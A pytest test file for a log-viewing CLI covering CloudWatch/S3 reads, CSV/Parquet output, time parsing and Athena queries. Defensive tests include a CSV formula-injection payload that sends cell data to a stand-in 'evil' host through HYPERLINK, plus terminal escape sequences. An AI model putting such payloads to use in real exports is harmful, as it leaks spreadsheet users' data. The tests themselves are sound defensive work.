from __future__ import annotations

import argparse
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pandas as pd
import pytest

from lab_helpers import sql
from lab_helpers.base.errors import SettingsError
from lab_helpers.cli import logs as cli_logs
from tests.support.fake_aws import FakeLogs, FakeS3, at
from tests.support.log_samples import HEALTH_CHECK, gzipped, record, request_line, stream_name

OUTPUTS = SimpleNamespace(
    httpd_log_group="/ecs/firelens/httpd",
    log_bucket="logs",
    alb_log_bucket="alb",
    glue_database="lab",
    glue_table="logs",
)
RECORDS = [record(HEALTH_CHECK), record(request_line("r-1"))]


class FakeLab:
    """A lab with two log lines, in CloudWatch and in S3."""

    outputs = OUTPUTS

    def client(self, service: str) -> Any:
        start = int(at(14).timestamp() * 1000)
        if service == "logs":
            return FakeLogs({stream_name(): [(start + n, json.dumps(item)) for n, item in enumerate(RECORDS)]})
        return FakeS3({"2021/11/07/09/a.gz": (gzipped(*RECORDS), at(14))})


@pytest.fixture(autouse=True)
def fake_lab(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("lab_helpers.lab.attach", lambda _: FakeLab())


def lab(*argv: str) -> int:
    """Run a subcommand as `lab` does."""
    parser = argparse.ArgumentParser()
    cli_logs.add(parser.add_subparsers(required=True))
    args = parser.parse_args(argv)
    return int(args.run(args))


@pytest.mark.parametrize("source", ["cloudwatch", "s3"])
def test_a_table_of_the_lines(source: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A row a line, `-` for what is missing."""
    assert lab("logs", "--source", source) == 0
    heading, *rows = capsys.readouterr().out.splitlines()
    assert heading.split()[1:4] == ["task", "remote_host", "method"]
    assert [row.split()[-3:] for row in rows] == [["200", "45", "-"]] * 2


def test_only_the_lines_that_hold_a_text(capsys: pytest.CaptureFixture[str]) -> None:
    """`--filter` takes its text as it is; `--columns` chooses."""
    lab("logs", "--filter", "?id=r-", "--columns", "query,status", "--format", "csv")
    assert capsys.readouterr().out == "query,status\nid=r-1,200\n"


def test_a_range_without_lines(capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing found is no error."""
    assert lab("logs", "--since", "2030-01-01") == 0
    assert capsys.readouterr().out == "No rows.\n"


def test_parquet_holds_all_columns_with_their_types(tmp_path: Path) -> None:
    """The file's name says the format; what was read can be read again."""
    file = tmp_path / "lines.parquet"
    lab("logs", "--source", "s3", "--output", str(file))
    frame = pd.read_parquet(file)
    assert frame["status"].dtype == "Int16"
    assert frame["line"].tolist() == [item["log"] for item in RECORDS]


@pytest.mark.parametrize(
    "argv",
    [
        ("logs", "--format", "parquet"),
        ("logs", "--columns", "colour"),
        ("logs", "--since", "yesterday-ish"),
        ("logs", "--since", "1h", "--until", "2h"),
    ],
)
def test_what_cannot_be_is_refused(argv: tuple[str, ...]) -> None:
    """Parquet without a file, unknown columns, times that are none and reversed ranges are errors of the caller."""
    with pytest.raises(SettingsError):
        lab(*argv)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("90s", datetime(2026, 1, 31, 11, 58, 30, tzinfo=UTC)),
        ("2h", datetime(2026, 1, 31, 10, tzinfo=UTC)),
        ("2026-01-30T09:00+09:00", datetime(2026, 1, 30, tzinfo=UTC)),
        (None, None),
    ],
)
def test_times_on_the_command_line(text: str | None, expected: datetime | None) -> None:
    """Absolute times and how long ago."""
    assert cli_logs.moment(text, datetime(2026, 1, 31, 12, tzinfo=UTC)) == expected


def test_a_long_table_says_what_it_leaves_out() -> None:
    """A table ends after MAX_ROWS and says so."""
    text = cli_logs.table(pd.DataFrame({"n": range(cli_logs.MAX_ROWS + 7)}))
    assert text.splitlines()[-1].startswith("… and 7 more rows")


def test_a_question_in_sql(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """`lab query` asks Athena in the lab's database and keeps the answers where no reader takes them for logs."""
    asked: list[tuple[Any, ...]] = []

    def query(_: Any, *question: str) -> pd.DataFrame:
        asked.append(question)
        frame = pd.DataFrame({"lines": [2]})
        frame.attrs["scanned_bytes"] = 1234
        return frame

    monkeypatch.setattr(sql, "query", query)
    assert lab("query", "SELECT count(*) AS lines FROM logs") == 0
    assert asked == [("SELECT count(*) AS lines FROM logs", "lab", "s3://logs/_athena/")]
    assert capsys.readouterr().out.splitlines() == ["lines", "    2", "1 rows, 1,234 bytes read (table logs)"]


def test_a_terminal_shows_escape_sequences_and_obeys_none(capsys: pytest.CaptureFixture[str]) -> None:
    """A log line is anybody's: what clears a screen or names a window is shown as letters; --raw keeps it."""
    frame = pd.DataFrame({"line": ["\x1b[2J\x1b]0;title\x07 \x9b31m", "plain é"]})
    cli_logs.write(frame, "table", None)
    out = capsys.readouterr().out
    assert "\\x1b[2J\\x1b]0;title\\x07 \\x9b31m" in out
    assert "plain é" in out
    assert not set(out) & {"\x1b", "\x07", "\x9b"}
    cli_logs.write(frame, "csv", None, raw=True)
    assert "\x1b[2J" in capsys.readouterr().out


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", " =1", "\t=1"])
def test_a_spreadsheet_gets_no_formulas(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A query string of a stranger's becomes no formula; numbers and the hyphen of a missing value stay."""
    frame = pd.DataFrame({"query": [text, "-", "-1.5", "a=b"], "n": [1, -2, 3, 4]})
    cli_logs.write(frame, "csv", None)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [row[0] for row in rows[1:]] == [f"'{text}", "-", "-1.5", "a=b"]
    assert [row[1] for row in rows[1:]] == ["1", "-2", "3", "4"]
